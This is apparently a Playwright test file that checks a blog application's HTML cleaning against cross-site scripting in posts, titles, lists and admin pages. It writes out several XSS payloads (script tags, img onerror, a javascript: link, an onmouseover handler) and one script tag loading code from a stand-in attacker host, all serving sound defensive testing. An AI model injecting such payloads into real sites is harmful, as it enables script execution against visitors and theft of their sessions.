import type { APIRequestContext, Page } from '@playwright/test';
import { attackerHost, attackStrings } from '@last-circle/server/testing/content/attack-strings.ts';
import { organiserByApi } from '#steps/api.ts';
import { showAt } from '#steps/loading-pages.ts';
import { logIn, organiser } from '#steps/people.ts';
import { openWhole } from '#steps/requests.ts';
import { expect, test } from '#test.ts';

// The content policy would stop most attacks; here the cleaning alone is tested.
test.use({ bypassCSP: true });

interface Written {
  id: number;
  title: string;
  content: string;
}

const bySource = Object.values(Object.groupBy(attackStrings, ({ source }) => source)).map(
  (attacks = []) => attacks.map(({ html }) => html).join('\n'),
);

/** A published post for each, whose title is an attack too; lists show the picture that it begins with. */
async function publish(request: APIRequestContext, contents: string[]) {
  const admin = await organiserByApi(request);
  const [newest] = await admin.send<{ image: string }[]>('GET', '/blogs?limit=1&content=none');
  const posts: Written[] = [];
  for (const content of contents) {
    const body = {
      title: `Raid ${crypto.randomUUID().slice(0, 6)} <img src=x onerror=attacked()>`,
      content: `<p>Before.</p><img src="${newest?.image}" alt="Start"><p>Then.</p>${content}`,
      published: true,
    };
    posts.push(await admin.send<Written>('POST', '/blogs', body));
  }
  return posts;
}

/** What remains of each attack in a post of its own. */
async function leftOfEach(request: APIRequestContext) {
  const admin = await organiserByApi(request);
  const draft = { title: 'Raid, one by one', content: 'Nothing yet' };
  const { id } = await admin.send<Written>('POST', '/blogs', draft);
  const left: string[] = [];
  for (const { html } of attackStrings) {
    const change = { content: `<p>Alone.</p>${html}` };
    left.push((await admin.send<Written>('PUT', `/blogs/${id}`, change)).content);
  }
  return left.join('');
}

/** What gets through: calls, dialogs, and requests for anything but images that posts may show. */
async function harmTo(page: Page) {
  const harm: string[] = [];
  await page.exposeFunction('attacked', (call: number | string) => harm.push(`attack ${call}`));
  page.on('dialog', async (dialog) => {
    harm.push(`dialog ${dialog.message()}`);
    await dialog.dismiss();
  });
  const home = new URL(test.info().project.use.baseURL ?? '').host;
  await page.route(
    ({ host }) => host !== home,
    async (route) => {
      const request = route.request();
      const isOfAttacker = request.url().includes(attackerHost);
      if (isOfAttacker && request.resourceType() !== 'image') harm.push(request.url());
      await route.abort();
    },
  );
  return harm;
}

/** Triggers what the attacks wait for on every element; the last one proves that calls are noticed. */
async function provoke(page: Page) {
  await page.getByRole('main').evaluate((main) => {
    for (const element of main.querySelectorAll<HTMLElement>('*')) {
      for (const kind of ['mouseover', 'pointerover', 'focus', 'toggle', 'animationstart']) {
        element.dispatchEvent(new Event(kind, { bubbles: true }));
      }
    }
    for (const link of main.querySelectorAll<HTMLAnchorElement>('a[href]')) {
      if (!['http:', 'https:', 'mailto:'].includes(link.protocol)) link.click();
    }
  });
  await page.evaluate('attacked("sent last")');
}

const unharmed = ['attack sent last'];

// One after another: the posts of one test would push those of another out of the lists.
test.describe.configure({ mode: 'default' });

test('an attack that nobody has cleaned is noticed', async ({ page }) => {
  const harm = await harmTo(page);
  const raw = `<script>attacked(1)</script><img src=x onerror=attacked(2)>
    <a href="javascript:attacked(3)">x</a><p onmouseover=attacked(4)>x</p>
    <script src="https://${attackerHost}/x.js"></script>`;
  await page.route('**/blogs', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</main>', `${raw}</main>`);
    await route.fulfill({ response, body });
  });
  await page.route('**/assets/*.js', (route) => route.abort());
  await page.goto('/blogs');
  await provoke(page);
  await expect
    .poll(() => harm.toSorted())
    .toEqual([
      'attack 1',
      'attack 2',
      'attack 3',
      'attack 4',
      ...unharmed,
      `https://${attackerHost}/x.js`,
    ]);
});

test('no attack runs in the page that the server sends', async ({ page, request }) => {
  const posts = await publish(request, [...bySource, await leftOfEach(request)]);
  const harm = await harmTo(page);
  for (const { id, title } of posts) {
    harm.length = 0;
    await openWhole(page, `/blog/${id}`);
    await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible();
    await provoke(page);
    await expect.poll(() => harm).toEqual(unharmed);
  }
});

test('no attack runs in what the browser renders, even if the server had not cleaned it', async ({
  page,
  request,
}) => {
  const posts = await publish(request, bySource);
  const harm = await harmTo(page);
  for (const [index, { id }] of posts.entries()) {
    const post: object = await (await request.get(`/api/blogs/${id}`)).json();
    const uncleaned = { ...post, content: `<p>Raw.</p>${bySource[index]}` };
    // A post is loaded while the pointer rests on a link to it, and the page may be left meanwhile.
    await page.route(`**/api/blogs/${id}`, (route) => route.fulfill({ json: uncleaned }));
  }
  // Before it is hydrated, a link leads to the page that the server renders.
  await showAt(page, '/blogs');
  for (const [index, { title }] of posts.entries()) {
    await page.getByRole('link', { name: title }).click();
    await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible();
    await expect(page.getByText('Raw.')).toBeVisible();
    await provoke(page);
    // What comes late of a post is found with the next one, by its number.
    await expect.poll(() => harm).toEqual(posts.slice(0, index + 1).flatMap(() => unharmed));
    await page.goBack();
    await expect(page).toHaveURL('/blogs');
  }
});

test('no attack runs in lists, on the landing page or where posts are managed', async ({
  page,
  request,
}) => {
  const [post] = await publish(request, [bySource.join('')]);
  const harm = await harmTo(page);
  await logIn(page, organiser);
  for (const path of ['/', '/blogs', '/admin/blogs']) {
    harm.length = 0;
    await openWhole(page, path);
    await expect(page.getByText(post?.title ?? '').first()).toBeVisible();
    await provoke(page);
    await expect.poll(() => harm).toEqual(unharmed);
  }
});
